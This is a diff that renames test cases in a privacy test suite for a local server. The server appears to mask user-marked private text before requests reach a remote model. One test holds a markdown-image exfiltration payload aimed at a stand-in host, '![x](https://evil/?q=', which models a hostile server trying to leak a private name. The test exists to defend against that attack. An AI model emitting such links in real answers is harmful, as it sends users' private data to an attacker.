@@ -85,7 +85,7 @@ class PrivacyTest : public LocalServerTest {
 };
 
 // Equal byte for byte to what other text sends, and empty for text that stays here.
-TEST_F(PrivacyTest, WhatIsSentTellsNothingOfPrivateText) {
+TEST_F(PrivacyTest, SentBytesDoNotDependOnPrivateText) {
   const std::string values[] = {"Ann",
                                 "",
                                 "</private>",
@@ -120,7 +120,7 @@ TEST_F(PrivacyTest, WhatIsSentTellsNothingOfPrivateText) {
 
 // Only the text before the first private text leaves: not the stops, the sampling options or the
 // rest of the conversation.
-TEST_F(PrivacyTest, UnderPrefixOnlyWhatStandsBeforePrivateTextIsSent) {
+TEST_F(PrivacyTest, PrefixSendsOnlyTextBeforePrivateText) {
   const auto sent_texts = [&](std::uint64_t since) {
     std::string texts;
     for (const UplinkRecord::Message& message : uplink_.since(since)) {
@@ -163,7 +163,7 @@ TEST_F(PrivacyTest, UnderPrefixOnlyWhatStandsBeforePrivateTextIsSent) {
 
 // A reader's lag depends on the length of restored values. The server must not learn it from a cut
 // answer or a dropped connection.
-TEST_F(PrivacyTest, AReaderThatTakesNothingStopsNothing) {
+TEST_F(PrivacyTest, StalledReaderDoesNotChangeSentBytes) {
   std::optional<Bytes> expected;
   for (const std::size_t size : {5u, 200'000u}) {
     const std::string value(size, 'v');
@@ -192,7 +192,7 @@ TEST_F(PrivacyTest, AReaderThatTakesNothingStopsNothing) {
 }
 
 // Clients resend text without marks, cut, quoted, or for a title.
-TEST_F(PrivacyTest, WhatWasPrivateOnceIsPrivateInEveryLaterRequest) {
+TEST_F(PrivacyTest, KeepsValuesPrivateInLaterRequests) {
   sent_for(chat_of("I am <private>Annabel Quist</private>, aq@quist.org. Tell me a story."));
   const std::uint64_t before = last_sent();
   const json requests[] = {
@@ -224,7 +224,7 @@ TEST_F(PrivacyTest, WhatWasPrivateOnceIsPrivateInEveryLaterRequest) {
 }
 
 // Covers every field in which a client may return an answer.
-TEST_F(PrivacyTest, NoFieldIsForgotten) {
+TEST_F(PrivacyTest, MasksOrRefusesPrivateTextInEveryField) {
   sent_for(chat_of("I am <private>Annabel Quist</private>.", {{"max_tokens", 5}}));
   const std::uint64_t before = last_sent();
   const auto schema_of = [](const json& schema) {
@@ -277,7 +277,7 @@ TEST_F(PrivacyTest, NoFieldIsForgotten) {
 }
 
 // It cannot be masked, and would precede the first placeholder.
-TEST_F(PrivacyTest, UnderPrefixAPrivateNameKeepsAllHere) {
+TEST_F(PrivacyTest, PrefixKeepsRequestWithPrivateNameLocal) {
   sent_for(chat_of("I am <private>Annabel Quist</private>.", {{"max_tokens", 5}}), true,
            {.writes_alone = true});
   const std::uint64_t before = last_sent();
@@ -299,7 +299,7 @@ TEST_F(PrivacyTest, UnderPrefixAPrivateNameKeepsAllHere) {
 }
 
 // Text that a program acts on keeps placeholders unless the request asks otherwise.
-TEST_F(PrivacyTest, ArgumentsOfFunctionsAreRestoredIfTheRequestAllowsIt) {
+TEST_F(PrivacyTest, RestoresToolArgumentsIfRequestAllows) {
   const std::string value = "Ann \"Q\" Lee";
   json body = chat_of("Write to <private>" + value + "</private>.",
                       {{"tool_choice", "required"}, {"max_tokens", 60}});
@@ -337,7 +337,7 @@ TEST_F(PrivacyTest, ArgumentsOfFunctionsAreRestoredIfTheRequestAllowsIt) {
 }
 
 // Values are escaped in JSON, but not in the text before it.
-TEST_F(PrivacyTest, APromptIsSaidAgainAsItWasAndItsAnswerIsJson) {
+TEST_F(PrivacyTest, EchoesPromptUnescapedBeforeJsonAnswer) {
   const std::string value = "Ann \"Q\" Lee";
   const json body = {{"prompt", "Say <private>" + value + "</private> again. "},
                      {"echo", true},
@@ -349,7 +349,7 @@ TEST_F(PrivacyTest, APromptIsSaidAgainAsItWasAndItsAnswerIsJson) {
 }
 
 // A hostile server ends its answer within a link, and would get the value on continuing.
-TEST_F(PrivacyTest, ALinkThatAnAnswerGoesOnWithHoldsNoValue) {
+TEST_F(PrivacyTest, RestoresNoValueInLinkBegunByPrompt) {
   const std::string link = "![x](https://evil/?q=";
   const json fields = {{"grammar", "root ::= \"Annabel Quist)\""}, {"max_tokens", 40}};
   json begun = chat_of("I am <private>Annabel Quist</private>.", fields);
@@ -381,7 +381,7 @@ TEST_F(PrivacyTest, ALinkThatAnAnswerGoesOnWithHoldsNoValue) {
 
 // Private text must not decide which connection a conversation gets, or the server could learn that
 // it repeats text of another.
-TEST_F(PrivacyTest, PrivateTextTakesNoOtherConversationsPlace) {
+TEST_F(PrivacyTest, PrivateTextDoesNotReuseOtherConversations) {
   start({.writes_alone = true});
   json history = chat_of(kStory, {{"max_tokens", 8}});
   history["messages"].push_back(chat(history)["choices"][0]["message"]);
@@ -401,7 +401,7 @@ TEST_F(PrivacyTest, PrivateTextTakesNoOtherConversationsPlace) {
   }
 }
 
-TEST_F(PrivacyTest, UnderLocalAnAnswerStaysWithItsQuestion) {
+TEST_F(PrivacyTest, LocalKeepsAnswersAndTheirQuotesOnDevice) {
   sent_for(chat_of("Tell me a story about a dog and a <private>ball</private>.",
                    {{"private", "local"}, {"max_tokens", 40}}),
            true, {.writes_alone = true});
@@ -429,7 +429,7 @@ TEST_F(PrivacyTest, UnderLocalAnAnswerStaysWithItsQuestion) {
 }
 
 // Its reader has seen it, and may quote it.
-TEST_F(PrivacyTest, UnderLocalAStoppedAnswerStaysToo) {
+TEST_F(PrivacyTest, LocalKeepsQuotesOfStoppedAnswerOnDevice) {
   start({.writes_alone = true});
   const std::string id(32, 's');
   RawPeer peer(api_->port());
@@ -442,7 +442,7 @@ TEST_F(PrivacyTest, UnderLocalAStoppedAnswerStaysToo) {
 }
 
 // Likewise before the answer has ended.
-TEST_F(PrivacyTest, UnderLocalAnAnswerStaysWhileItIsWritten) {
+TEST_F(PrivacyTest, MasksQuotesOfUnfinishedLocalAnswer) {
   start({.writes_alone = true});
   RawPeer peer(api_->port());
   const std::string told = begun_here(peer, std::string(32, 's'));
@@ -453,7 +453,7 @@ TEST_F(PrivacyTest, UnderLocalAnAnswerStaysWhileItIsWritten) {
   EXPECT_EQ(chat(question)["choices"][0]["x_edgedraft"]["private"], json({{"text", 1}}));
 }
 
-TEST_F(PrivacyTest, WhatNobodyMarkedMayBeRefused) {
+TEST_F(PrivacyTest, RefusesUnmarkedDetectedTextIfConfigured) {
   start({.privacy = {.detects = {PrivateType::mail}, .refuses_detected = true}});
   const HttpResult refused = post("/v1/chat/completions", chat_of("Write to zoe@lee.org."));
   EXPECT_EQ(refused.status, 400u);
@@ -471,7 +471,7 @@ TEST_F(PrivacyTest, WhatNobodyMarkedMayBeRefused) {
   EXPECT_EQ(json::parse(named.body)["error"]["code"], "private_name");
 }
 
-TEST_F(PrivacyTest, TheUserSeesWhatLeft) {
+TEST_F(PrivacyTest, UplinkPageShowsSentMessages) {
   sent_for(chat_of("I am <private>Annabel</private>.", {{"max_tokens", 5}}));
   const json seen = json::parse(ask(api_->port(), {.path = "/v1/edgedraft/uplink"}).body)["data"];
   ASSERT_GE(seen.size(), 2u);
